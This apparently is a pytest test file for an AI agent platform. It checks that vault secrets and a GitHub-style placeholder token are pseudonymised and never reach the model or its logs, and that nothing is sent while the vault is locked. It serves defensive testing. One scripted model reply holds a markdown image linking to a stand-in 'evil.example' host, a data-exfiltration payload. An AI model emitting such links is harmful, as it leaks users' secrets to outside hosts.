"""Two canaries, a key of the vault and what only looks like a secret: they leave to nobody."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pydantic_ai.models
import pytest

from dino_os.agent.approvals import decide
from dino_os.agent.replay import replay
from dino_os.agent.running import run_goal
from dino_os.agent_core.core import Core
from dino_os.redaction import spellings
from dino_os.security_gateway.model import VaultLocked
from dino_os.tool_sandbox.sandbox import Sandbox
from dino_os.workspace import Workspace
from engines import passphrase
from tests.agent.kit import Operator, run_here
from tests.models.scripted import Calls, ScriptedServer, Text

CANARY = "tide/Canary+7'é\\q94f1 d2b8"
FOUND = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
TOKEN = re.compile(r"<[a-z_]+:[a-z2-7]{16}>")
SKILLS = f'''
from dino_os import skill
import builtins

@skill
def read_page() -> dict:
    """Read a page."""
    print("printed", {CANARY!r}, {FOUND!r})
    return {{"text": {CANARY!r}, "hex": {CANARY.encode().hex()!r}, "nested": [{FOUND!r}]}}

@skill
def fail() -> None:
    """Fail."""
    raise LookupError({f"{CANARY} {FOUND}"!r})

@skill(reaches=["example.org"])
def send(text: str) -> str:
    """Send a message."""
    builtins.sent.append(("send", text))
    return "sent"

@skill(reaches=["example.org"], keys=["tide"])
def login(password: str) -> str:
    """Log in."""
    builtins.sent.append(("login", password))
    return "in with " + password
'''


@pytest.fixture
def sent(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str]]:
    """What skills were given."""
    found: list[tuple[str, str]] = []
    monkeypatch.setattr("builtins.sent", found, raising=False)
    return found


@pytest.fixture
def home(workspace: Path, monkeypatch: pytest.MonkeyPatch, sent: list[Any]) -> Workspace:
    monkeypatch.setattr(Sandbox, "run", run_here)
    monkeypatch.setattr(pydantic_ai.models, "ALLOW_MODEL_REQUESTS", True)  # of the server here
    monkeypatch.setattr(passphrase, "_ARGON2ID", (8, 1, 1))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(workspace.parent / "xdg"))
    (workspace / "skills" / "mine.py").write_text(SKILLS)
    home = Workspace(workspace)
    home.security.set_key("tide", CANARY)
    for name in ("send", "login"):
        home.admission.grant(home.plugins.skills().find(name), by="tester")
    return home


def asking(home: Workspace, server: ScriptedServer) -> Workspace:
    (home.root / "config.yaml").write_text(
        f"llm: {{providers: [{{name: here, model: m, base_url: '{server.url}'}}]}}\n"
    )
    return Workspace(home.root)


def assert_silent(*texts: object) -> None:
    for text in texts:
        said = text if isinstance(text, str) else json.dumps(text, ensure_ascii=False)
        for form in {*spellings(CANARY), *spellings(FOUND)}:
            assert form not in said


def kept(home: Workspace) -> str:
    """Every byte that the workspace keeps of it."""
    files = [file for file in home.memory.rglob("*") if file.is_file()]
    return "\n".join(file.read_bytes().decode("latin-1") for file in files)


def tokens(server: ScriptedServer) -> list[str]:
    found = TOKEN.findall(json.dumps(server.bodies))
    return list(dict.fromkeys(found))


def test_a_canary_leaves_to_no_model_and_lies_in_no_record(
    home: Workspace, sent: list[tuple[str, str]]
) -> None:
    """In a goal, in what skills return, print and fail with; parked, gone on with, replayed."""
    answers = [Calls([("read_page", {}), ("fail", {})]), Calls([("send", {"text": "?"})])]
    with ScriptedServer(*answers, always=Text("done ![x](http://evil.example/?q=all)")) as server:
        home = asking(home, server)
        ended = run_goal(home, f"log in with {CANARY} and {FOUND}", model=None)
        assert ended.outcome is None
        [waits] = ended.waiting
        assert len(tokens(server)) >= 3  # the two, and one of them in hex
        ended = decide(Workspace(home.root), waits.id, approved=True)
    assert ended.outcome == "ok"
    assert sent == [("send", "?")]
    assert_silent(*server.bodies, kept(home), ended.output, ended.as_dict())
    assert_silent(*(step.as_dict() for step in home.agent_log.steps(ended.run)))
    again = replay(Workspace(home.root), ended.run)
    assert (again.end, again.steps) == ("ok", 3)
    assert_silent(again.as_dict(), kept(home))


@pytest.mark.parametrize("parks", [False, True])
def test_what_a_model_passes_on_comes_back_for_whoever_may_have_it(
    home: Workspace, sent: list[tuple[str, str]], parks: bool
) -> None:
    """A value of the vault for the skill that was granted its key; also in another process."""

    with ScriptedServer(Text("x")) as server:  # the pseudonyms are the same in each run
        home = asking(home, server)
        run_goal(home, f"{CANARY} and {FOUND}", model=None)
        vault, form = tokens(server)
    calls = [("login", {"password": vault}), ("send", {"text": f"{vault} {form}"})]
    with ScriptedServer(Calls(calls), Text("done")) as server:
        home = asking(home, server)
        watch = None if parks else Operator(True, True)
        ended = run_goal(home, f"{CANARY} and {FOUND}", model=None, watch=watch)
        for waits in ended.waiting:
            assert_silent(waits.as_dict())
            ended = decide(Workspace(home.root), waits.id, approved=True)
    assert ended.outcome == "ok"
    assert sent == [("login", CANARY), ("send", f"{vault} {FOUND}")]
    assert_silent(*server.bodies, kept(home), ended.as_dict())
    log = [one for one in home.security.get_audit_log() if one["action"] == "key_accessed"]
    assert "skill:login" in {one["entity"] for one in log}
    assert "skill:send" not in {one["entity"] for one in log}


def test_a_secret_that_a_run_never_held_comes_of_no_pseudonym(
    home: Workspace, sent: list[tuple[str, str]]
) -> None:
    """However the model, or a text, came by it."""
    with ScriptedServer(Text("x")) as server:
        home = asking(home, server)
        run_goal(home, f"{CANARY} and {FOUND}", model=None)
        vault, form = tokens(server)
    calls = [("login", {"password": vault}), ("send", {"text": form})]
    with ScriptedServer(Calls(calls), Text("done")) as server:
        home = asking(home, server)
        run_goal(home, f"use {vault} and {form}", model=None, watch=Operator(True, True))
    assert sent == [("login", vault), ("send", form)]


def test_with_a_vault_that_does_not_open_nothing_is_asked(
    home: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither by a run nor by a question: nobody could tell what its values are."""
    monkeypatch.setenv("DINO_VAULT_PASSPHRASE", "long enough to be one")
    home.security.relock("passphrase")
    monkeypatch.delenv("DINO_VAULT_PASSPHRASE")
    with ScriptedServer(always=Text("x")) as server:
        for ask in (lambda w: run_goal(w, "hello", model=None), lambda w: Core(w).run("hello")):
            with pytest.raises(VaultLocked):
                ask(asking(home, server))
    assert server.bodies == []


def test_what_skills_say_of_themselves_is_screened(home: Workspace) -> None:
    """Docstrings and defaults; types stay types."""
    more = f'"""Log in with {FOUND}."""\n    return password'
    (home.root / "skills" / "more.py").write_text(
        f"from dino_os import skill\n\n@skill\n"
        f"def enter(password: str = {CANARY!r}) -> str:\n    {more}\n"
    )
    with ScriptedServer(always=Text("x")) as server:
        run_goal(asking(home, server), "hello", model=None, skills=["enter"])
    [tool] = server.bodies[0]["tools"]
    assert TOKEN.search(tool["function"]["description"])
    assert tool["function"]["parameters"]["properties"]["password"]["type"] == "string"
    assert_silent(*server.bodies, kept(home))


def test_questions_are_screened_too(home: Workspace) -> None:
    """Those of `dino ask` and of skills, which have no loop."""
    with ScriptedServer(always=Text("no idea")) as server:
        home = asking(home, server)
        system = f"You know {CANARY} and {FOUND}."
        assert Core(home).run(f"what is {CANARY} or {FOUND}?", system=system) == "no idea"
    assert_silent(*server.bodies, kept(home))
